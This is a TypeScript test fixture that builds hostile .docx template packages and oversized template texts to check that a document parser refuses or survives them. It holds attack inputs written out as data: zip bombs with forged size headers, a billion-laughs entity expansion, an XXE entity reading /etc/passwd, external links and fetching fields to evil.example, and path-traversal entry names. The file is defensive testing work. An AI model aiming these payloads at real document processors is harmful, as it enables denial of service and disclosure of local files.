import { p, partOf, partsOf, pack, table, templateOf, textBox } from '../electron/documents/template-files.ts'
import type { Hostile } from './hostile-files.ts'

const megabyte = 1_000_000
const settings = 'word/settings.xml'
const links = 'word/_rels/settings.xml.rels'
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const contentTypes = '[Content_Types].xml'

const good = p('{{会议名称}}')

/** Anything may come of it but harm: only what must be refused says so. */
const refused = (what: string, bytes: () => Promise<Uint8Array>): Hostile => ({ what, bytes })
const harmless = (what: string, bytes: () => Promise<Uint8Array>): Hostile => ({ what, bytes, mayBeRead: true })
const body = (what: string, content: () => string): Hostile => harmless(what, () => templateOf(content()))

const relationships = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="${relation}/${type}" Target="${target}"${mode}/></Relationships>`

const linking = (type: string, target: string): Hostile =>
  refused(`a relationship to outside: ${type}`, () => templateOf(good, { [links]: relationships(type, target) }))

/** The size an entry claims, in its central header. */
async function claiming(part: string, size: number, content: Uint8Array): Promise<Uint8Array> {
  const bytes = Buffer.from(await templateOf(good, { [part]: content }))
  bytes.writeUInt32LE(size, bytes.lastIndexOf(part) - 46 + 24)
  return bytes
}

const withTypes = (type: string): Promise<Uint8Array> => {
  const types = String(partsOf(good)[contentTypes])
  return templateOf(good, { [contentTypes]: types.replace('wordprocessingml.document.main', type) })
}

const laughs = `<!DOCTYPE lolz [<!ENTITY a "${'ha'.repeat(50)}">${[...'bcdefghi'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}]>`

const document = (content: string): string => partOf('document', `<w:body>${content}</w:body>`)

const nested = (depth: number, inner: string): string => {
  let content = inner
  for (let level = 0; level < depth; level += 1) content = table([content])
  return content
}

async function docxInDocx(): Promise<Uint8Array> {
  let inner = await templateOf(good)
  for (let depth = 0; depth < 5; depth += 1) inner = await templateOf(good, { 'word/embeddings/inner.docx': inner })
  return inner
}

export const hostileTemplatePackages: readonly Hostile[] = [
  refused('a bomb of 300 MB', () => templateOf(good, { 'word/media/a.png': new Uint8Array(300 * megabyte) })),
  refused('a bomb of 300 MB that claims 100 bytes', () =>
    claiming('word/media/a.png', 100, new Uint8Array(300 * megabyte))
  ),
  refused('a part that claims 4 GB', () => claiming('word/media/a.png', 0xfffffffe, new Uint8Array(10))),
  refused('a document part of 300 MB', () =>
    templateOf(good, { 'word/document.xml': document(' '.repeat(300 * megabyte)) })
  ),
  refused('5,000 entries', () =>
    templateOf(good, Object.fromEntries(Array.from({ length: 5000 }, (_one, index) => [`word/m/${index}.png`, 'x'])))
  ),
  harmless('a package in a package in a package', docxInDocx),
  refused('macros', () => templateOf(good, { 'word/vbaProject.bin': 'x' })),
  refused('a macro-enabled kind', () => withTypes('document.macroEnabled.main')),
  refused('a .dotx', () => withTypes('template.main')),
  linking('attachedTemplate', 'http://evil.example/t.dotm'),
  linking('image', 'file://evil.example/share/a.png'),
  linking('aFChunk', 'chunk.html'),
  linking('subDocument', 'other.docx'),
  linking('oleObject', 'other.xlsx'),
  refused('an external relationship in another case', () =>
    templateOf(good, {
      [links]: relationships('image', '\\\\evil\\a.png', ' targetmode="EXTERNAL" TargetMode="eXternal"')
    })
  ),
  refused('a field that fetches', () =>
    templateOf(
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example/a.png"</w:instrText></w:r></w:p>`
    )
  ),
  refused('a billion laughs', () => templateOf(good, { [settings]: `${laughs}<w:settings>&i;</w:settings>` })),
  refused('an entity from a file', () =>
    templateOf(good, {
      'word/document.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${document('&e;')}`
    })
  ),
  refused('a DOCTYPE after a comment of 1 MB', () =>
    templateOf(good, { [settings]: `<!--${' '.repeat(megabyte)}--><!DOCTYPE x><x/>` })
  ),
  refused('UTF-16', () => templateOf(good, { [settings]: Buffer.from('\ufeff<x/>', 'utf16le') })),
  refused('UTF-7', () => templateOf(good, { [settings]: '<?xml version="1.0" encoding="UTF-7"?><x/>' })),
  refused('the same name twice, in another case', () => templateOf(good, { 'word/Document.xml': document(good) })),
  ...['../evil.xml', '/absolut.xml', 'C:/bad.xml', 'word\\bad.xml'].map((name) =>
    refused(`an entry named ${name}`, async () => {
      const stand = 'a'.repeat(name.length)
      const text = Buffer.from(await templateOf(good, { [stand]: 'x' })).toString('latin1')
      return Buffer.from(text.replaceAll(stand, name), 'latin1')
    })
  ),
  refused('no document part', () => {
    const { 'word/document.xml': _gone, ...rest } = partsOf(good)
    return pack(rest)
  }),
  harmless('two documents', () => templateOf(good, { 'word/document2.xml': document(good) })),
  refused('half a file', async () => (await templateOf(good)).subarray(0, 700)),
  refused('an empty file', async () => new Uint8Array()),
  refused('a picture', async () => Buffer.from('89504e470d0a1a0a0000', 'hex')),
  refused('an old .doc', async () => Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(2000)}`, 'hex'))
]

const row = (cells: readonly string[]): string => table([...cells.map((cell) => p(cell))])

export const hostileTemplateTexts: readonly Hostile[] = [
  body('10,000 placeholders', () => p('{{会议名称}}').repeat(10_000)),
  body('10,000 placeholders in one paragraph', () => p('{{会议名称}}'.repeat(10_000))),
  body('10,000 runs that are one placeholder each', () => p(...Array.from({ length: 10_000 }, () => '{{会议名称}}'))),
  body('30,000 runs, placeholders cut into three', () =>
    p(...Array.from({ length: 10_000 }, () => ['{{会', '议名', '称}}']).flat())
  ),
  body('10,000 placeholders nobody knows', () =>
    Array.from({ length: 10_000 }, (_one, index) => p(`{{会议名字${index}}}`)).join('')
  ),
  body('10,000 rows of a table, each to be repeated', () =>
    table(...Array.from({ length: 10_000 }, () => [p('{{人员.姓名}}')]))
  ),
  body('60 nested tables', () => nested(60, p('{{人员.姓名}}'))),
  body('tables nested as deep as is let through', () => nested(64, p('{{会议名称}}'))),
  body('60 nested tables with a placeholder in each', () => {
    let content = p('{{人员.姓名}}')
    for (let level = 0; level < 60; level += 1)
      content = table([p(level % 2 === 0 ? '{{议题.议题}}' : '{{人员.姓名}}') + content])
    return content
  }),
  body('100 nested tables, too deep', () => nested(100, p('{{会议名称}}'))),
  body('100,000 levels', () => '<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000)),
  body('paragraphs in paragraphs, 190 deep', () => '<w:p>'.repeat(190) + good + '</w:p>'.repeat(190)),
  body('text boxes in text boxes', () => {
    let content = good
    for (let level = 0; level < 14; level += 1) content = textBox(content)
    return content
  }),
  body('a placeholder of 1 MB', () => p(`{{${'长'.repeat(megabyte / 3)}}}`)),
  body('a placeholder of 1 MB that grows eighteenfold', () => p(`{{${'ﷺ'.repeat(megabyte / 3)}}}`)),
  body('a placeholder of 1 MB that is not closed', () => p(`{{${'长'.repeat(megabyte / 3)}`)),
  body('1 MB of opening braces', () => p('{'.repeat(megabyte))),
  body('1 MB of closing braces', () => p('}'.repeat(megabyte))),
  body('50,000 paragraphs of opening braces', () => p('{{').repeat(50_000)),
  body('braces as numbers', () => p('&#123;&#x7B;会议名称&#125;&#x7d;')),
  body('3,000,000 empty elements', () => '<w:p/>'.repeat(3_000_000)),
  body('400,000 paragraphs with text', () => '<w:p><w:r><w:t>字</w:t></w:r></w:p>'.repeat(400_000)),
  body(
    '1,000,000 attributes',
    () => `<w:p ${Array.from({ length: 1_000_000 }, (_one, at) => `a${at}=""`).join(' ')}/>`
  ),
  body('an attribute of 15 MB', () => `<w:p a="${'x'.repeat(15 * megabyte)}"/>`),
  body('1 MB of blanks in a tag', () => `<w:p${' '.repeat(megabyte)}`),
  body('150,000 attributes in a tag that does not end', () => `<w:p${' a="x"'.repeat(150_000)} b`),
  body('a comment of 14 MB', () => `<!--${'-x'.repeat(7 * megabyte)}-->${good}`),
  body('100,000 comments that do not end', () => '<!--'.repeat(100_000)),
  body('14 MB of instruction', () => `<w:p><w:r><w:instrText>${'x '.repeat(7 * megabyte)}</w:instrText></w:r></w:p>`),
  body(
    '100,000 pieces of one instruction',
    () => `<w:p>${'<w:r><w:instrText>x</w:instrText></w:r>'.repeat(100_000)}</w:p>`
  ),
  body(
    '100,000 pieces of blanks before an instruction',
    () => `<w:p>${'<w:r><w:instrText>  </w:instrText></w:r>'.repeat(100_000)}</w:p>`
  ),
  body('names of the language itself', () =>
    ['__proto__', 'constructor', 'toString'].map((name) => p(`{{${name}}}`)).join('')
  ),
  body('lone surrogates and a turned direction', () =>
    p('{{会议\ud800名称}}', '\u202e{{称名议会}}', '{{会议名称\u200b}}')
  ),
  body('placeholders over a table’s edge', () => p('{{会议') + row(['名称}}', '{{', '人员.姓名}}']) + p('}}')),
  body('a row that stands nowhere', () => `<w:tr><w:tc>${p('{{人员.姓名}}')}</w:tc></w:tr>`),
  body('a table without rows', () => '<w:tbl><w:tblPr/></w:tbl>'),
  body('raw text', () => '<w:p><w:r><w:t><![CDATA[{{会议名称}}]]></w:t></w:r></w:p>')
]
